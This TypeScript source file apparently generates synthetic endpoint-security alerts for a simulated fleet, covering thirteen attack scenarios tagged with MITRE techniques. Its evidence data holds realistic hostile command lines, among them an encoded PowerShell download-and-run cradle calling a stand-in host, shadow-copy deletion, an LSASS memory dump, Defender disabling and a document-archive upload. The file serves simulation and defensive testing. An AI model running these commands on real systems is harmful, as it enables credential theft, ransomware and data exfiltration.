import { createHash } from 'node:crypto';
import type { Random } from '../random.js';
import type { AlertChanges } from './alert.js';
import type { FleetDevice, Person } from './fleet.js';

export type GivenEvidence = NonNullable<AlertChanges['evidence']>[number];

/** Who and what an alert is about. */
export interface Cast {
  device: FleetDevice;
  person: Person;
  domainName: string;
  /** When it was seen. */
  at: string;
  random: Random;
}

export interface Scenario {
  title: string;
  description: string;
  category: string;
  severity: 'Medium' | 'High';
  mitreTechniques: string[];
  threatFamilyName?: string;
  evidence: (cast: Cast) => GivenEvidence[];
}

const hashesOf = (content: string): Pick<GivenEvidence, 'sha1' | 'sha256'> => ({
  sha1: createHash('sha1').update(content).digest('hex'),
  sha256: createHash('sha256').update(content).digest('hex'),
});

interface Program {
  fileName: string;
  filePath: string;
}

const system32 = 'C:\\Windows\\System32';
const powershell = { fileName: 'powershell.exe', filePath: `${system32}\\WindowsPowerShell\\v1.0` };
const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const ofWindows = (fileName: string): Program => ({ fileName, filePath: system32 });
const downloadsOf = ({ person }: Cast): string => `C:\\Users\\${person.accountName}\\Downloads`;
const tempOf = ({ person }: Cast): string => `C:\\Users\\${person.accountName}\\AppData\\Local\\Temp`;

const userOf = ({ person, domainName }: Cast): Pick<GivenEvidence, 'accountName' | 'domainName'> => ({
  accountName: person.accountName,
  domainName,
});

/** A program of the system is the same file everywhere; what was brought in is another one each time. */
const file = (cast: Cast, { fileName, filePath }: Program, isKnown = false): GivenEvidence => ({
  entityType: 'File',
  evidenceCreationTime: cast.at,
  fileName,
  filePath,
  ...hashesOf(isKnown ? fileName : `${fileName} ${cast.random.whole(1, 1_000_000)}`),
  detectionStatus: 'Detected',
});

const process = (cast: Cast, program: Program, processCommandLine: string, parent: Program): GivenEvidence => ({
  ...file(cast, program, program.filePath.startsWith(system32)),
  entityType: 'Process',
  processId: cast.random.whole(1200, 19_999),
  processCommandLine,
  processCreationTime: cast.at,
  parentProcessId: cast.random.whole(600, 9999),
  parentProcessCreationTime: cast.at,
  parentProcessFileName: parent.fileName,
  parentProcessFilePath: parent.filePath,
  ...userOf(cast),
});

const user = (cast: Cast): GivenEvidence => ({
  entityType: 'User',
  evidenceCreationTime: cast.at,
  ...userOf(cast),
  userPrincipalName: `${cast.person.accountName}@corp.example`,
});

/** Of the addresses that are set aside for documents: nobody's. */
const ip = (cast: Cast): GivenEvidence => ({
  entityType: 'Ip',
  evidenceCreationTime: cast.at,
  ipAddress: `203.0.113.${cast.random.whole(1, 254)}`,
});

const url = (cast: Cast, address: string): GivenEvidence => ({
  entityType: 'Url',
  evidenceCreationTime: cast.at,
  url: address,
  detectionStatus: 'Detected',
});

const winword: Program = { fileName: 'winword.exe', filePath: office };
const explorer: Program = { fileName: 'explorer.exe', filePath: 'C:\\Windows' };
const cmd = ofWindows('cmd.exe');
const services = ofWindows('services.exe');

const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

export const scenarios: readonly [Scenario, ...Scenario[]] = [
  {
    title: 'Suspicious PowerShell download or encoded command execution',
    description:
      'An Office application started PowerShell with an encoded command that fetches and runs a script from the internet.',
    category: 'Execution',
    severity: 'Medium',
    mitreTechniques: ['T1059.001', 'T1105', 'T1204.002'],
    evidence: (cast) => {
      const source = `http://cdn-${cast.random.whole(10, 99)}.update-check.example/a.ps1`;
      const command = encoded(`IEX (New-Object Net.WebClient).DownloadString('${source}')`);
      return [
        process(cast, powershell, `powershell.exe -nop -w hidden -enc ${command}`, winword),
        url(cast, source),
        ip(cast),
        user(cast),
      ];
    },
  },
  {
    title: 'Possible ransomware activity',
    description: 'A process renamed and rewrote many files of the user within seconds and deleted the shadow copies.',
    category: 'Ransomware',
    severity: 'High',
    mitreTechniques: ['T1486', 'T1490'],
    threatFamilyName: 'Filecoder',
    evidence: (cast) => {
      const locker = { fileName: `svc${cast.random.whole(100, 999)}.exe`, filePath: 'C:\\ProgramData' };
      return [
        process(cast, locker, `C:\\ProgramData\\${locker.fileName} --all --silent`, explorer),
        process(cast, ofWindows('vssadmin.exe'), 'vssadmin.exe delete shadows /all /quiet', locker),
        file(cast, locker),
        user(cast),
      ];
    },
  },
  {
    title: 'Sensitive credential memory read',
    description: 'The memory of the Local Security Authority process was written to a file.',
    category: 'CredentialAccess',
    severity: 'High',
    mitreTechniques: ['T1003.001'],
    evidence: (cast) => [
      process(
        cast,
        ofWindows('rundll32.exe'),
        `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${cast.random.whole(600, 900)} C:\\Windows\\Temp\\d.bin full`,
        cmd,
      ),
      file(cast, { fileName: 'd.bin', filePath: 'C:\\Windows\\Temp' }),
      user(cast),
    ],
  },
  {
    title: 'Suspicious service registration',
    description: 'A service was registered whose binary lies in a folder that every user may write to.',
    category: 'Persistence',
    severity: 'Medium',
    mitreTechniques: ['T1543.003'],
    evidence: (cast) => {
      const binary = { fileName: `updhost${cast.random.whole(1, 99)}.exe`, filePath: 'C:\\Users\\Public' };
      const path = `${binary.filePath}\\${binary.fileName}`;
      return [
        process(cast, ofWindows('sc.exe'), `sc.exe create UpdHost binPath= "${path}" start= auto`, cmd),
        file(cast, binary),
        {
          entityType: 'RegistryValue',
          evidenceCreationTime: cast.at,
          registryHive: 'HKEY_LOCAL_MACHINE',
          registryKey: 'SYSTEM\\CurrentControlSet\\Services\\UpdHost',
          registryValueName: 'ImagePath',
          registryValueType: 'ExpandString',
          registryValue: path,
          detectionStatus: 'Detected',
        },
      ];
    },
  },
  {
    title: 'Connection to a known command-and-control address',
    description: 'A process without a window keeps connecting to an address that is known from earlier attacks.',
    category: 'CommandAndControl',
    severity: 'High',
    mitreTechniques: ['T1071.001', 'T1573'],
    evidence: (cast) => {
      const beacon = { fileName: 'msedgeupd.exe', filePath: tempOf(cast) };
      return [
        process(cast, beacon, `"${beacon.filePath}\\msedgeupd.exe" -s`, explorer),
        file(cast, beacon),
        ip(cast),
        url(cast, `https://api-${cast.random.whole(10, 99)}.telemetry-sync.example/v2/poll`),
        user(cast),
      ];
    },
  },
  {
    title: 'Suspicious remote execution by PsExec or WMI',
    description: 'A program was started on this device from another one, with an account that seldom signs in here.',
    category: 'LateralMovement',
    severity: 'High',
    mitreTechniques: ['T1021.002', 'T1569.002', 'T1047'],
    evidence: (cast) => [
      process(cast, { fileName: 'PSEXESVC.exe', filePath: 'C:\\Windows' }, 'C:\\Windows\\PSEXESVC.exe', services),
      process(cast, cmd, 'cmd.exe /c whoami /all & net group "domain admins" /domain', {
        fileName: 'PSEXESVC.exe',
        filePath: 'C:\\Windows',
      }),
      { ...ip(cast), ipAddress: `10.0.${cast.random.whole(1, 40)}.${cast.random.whole(2, 250)}` },
      user(cast),
    ],
  },
  {
    title: 'Attempt to turn off Microsoft Defender Antivirus protection',
    description: 'Real-time protection was to be switched off and a whole drive excluded from scans.',
    category: 'DefenseEvasion',
    severity: 'Medium',
    mitreTechniques: ['T1562.001'],
    evidence: (cast) => [
      process(
        cast,
        powershell,
        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\\'",
        cmd,
      ),
      {
        entityType: 'RegistryValue',
        evidenceCreationTime: cast.at,
        registryHive: 'HKEY_LOCAL_MACHINE',
        registryKey: 'SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection',
        registryValueName: 'DisableRealtimeMonitoring',
        registryValueType: 'Dword',
        registryValue: '1',
        detectionStatus: 'Detected',
      },
      user(cast),
    ],
  },
  {
    title: 'Suspicious scheduled task creation',
    description:
      'A task that runs a script from a temporary folder every ten minutes was created for the system account.',
    category: 'Persistence',
    severity: 'Medium',
    mitreTechniques: ['T1053.005'],
    evidence: (cast) => {
      const script = { fileName: `t${cast.random.whole(1000, 9999)}.vbs`, filePath: tempOf(cast) };
      return [
        process(
          cast,
          ofWindows('schtasks.exe'),
          `schtasks.exe /create /tn OneDriveSync /sc minute /mo 10 /ru SYSTEM /tr "wscript.exe ${script.filePath}\\${script.fileName}"`,
          cmd,
        ),
        file(cast, script),
      ];
    },
  },
  {
    title: 'Malicious script opened from a disk image',
    description: 'The user mounted a disk image from a mail and opened the shortcut in it, which loads a library.',
    category: 'InitialAccess',
    severity: 'Medium',
    mitreTechniques: ['T1566.001', 'T1553.005', 'T1218.011'],
    threatFamilyName: 'Qakbot',
    evidence: (cast) => {
      const number = cast.random.whole(10_000, 99_999);
      return [
        file(cast, { fileName: `Invoice_${number}.iso`, filePath: downloadsOf(cast) }),
        file(cast, { fileName: `Invoice_${number}.lnk`, filePath: 'E:\\' }),
        process(cast, ofWindows('rundll32.exe'), 'rundll32.exe E:\\data\\scan.dll,DrawThemeIcon', explorer),
        user(cast),
      ];
    },
  },
  {
    title: 'Suspicious archive of documents before an upload',
    description:
      'Many documents were packed with a password and sent to a file exchange that the company does not use.',
    category: 'Exfiltration',
    severity: 'High',
    mitreTechniques: ['T1560.001', 'T1567.002'],
    evidence: (cast) => {
      const archive = { fileName: `backup_${cast.random.whole(1, 31)}.7z`, filePath: tempOf(cast) };
      return [
        process(
          cast,
          { fileName: '7z.exe', filePath: 'C:\\Program Files\\7-Zip' },
          `7z.exe a -p -mhe ${archive.fileName} "C:\\Users\\${cast.person.accountName}\\Documents"`,
          cmd,
        ),
        file(cast, archive),
        url(cast, 'https://send.file-drop.example/upload'),
        user(cast),
      ];
    },
  },
  {
    title: 'Web server process started a command shell',
    description:
      'The process of the web server ran commands, as it does when a file with a back door was uploaded to it.',
    category: 'Exploit',
    severity: 'High',
    mitreTechniques: ['T1190', 'T1505.003'],
    evidence: (cast) => [
      process(cast, cmd, 'cmd.exe /c "ipconfig /all & net user & dir C:\\inetpub"', {
        fileName: 'w3wp.exe',
        filePath: `${system32}\\inetsrv`,
      }),
      file(cast, { fileName: `help${cast.random.whole(1, 99)}.aspx`, filePath: 'C:\\inetpub\\wwwroot\\aspnet_client' }),
      ip(cast),
    ],
  },
  {
    title: 'Suspicious Active Directory enumeration',
    description: 'A tool collected users, groups and sessions of the whole domain within a few minutes.',
    category: 'Discovery',
    severity: 'Medium',
    mitreTechniques: ['T1087.002', 'T1482', 'T1069.002'],
    evidence: (cast) => {
      const tool = { fileName: 'sh.exe', filePath: downloadsOf(cast) };
      return [
        process(cast, tool, 'sh.exe -c All --zipfilename o.zip', powershell),
        file(cast, tool),
        file(cast, { fileName: 'o.zip', filePath: downloadsOf(cast) }),
        user(cast),
      ];
    },
  },
  {
    title: 'Process memory was changed by another process',
    description: 'Code was written into the memory of a running process and started there.',
    category: 'PrivilegeEscalation',
    severity: 'Medium',
    mitreTechniques: ['T1055'],
    evidence: (cast) => {
      const dropper = { fileName: `setup_${cast.random.whole(100, 999)}.exe`, filePath: downloadsOf(cast) };
      return [
        process(cast, dropper, `"${dropper.filePath}\\${dropper.fileName}" /S`, explorer),
        process(cast, ofWindows('werfault.exe'), 'werfault.exe', dropper),
        file(cast, dropper),
        user(cast),
      ];
    },
  },
];
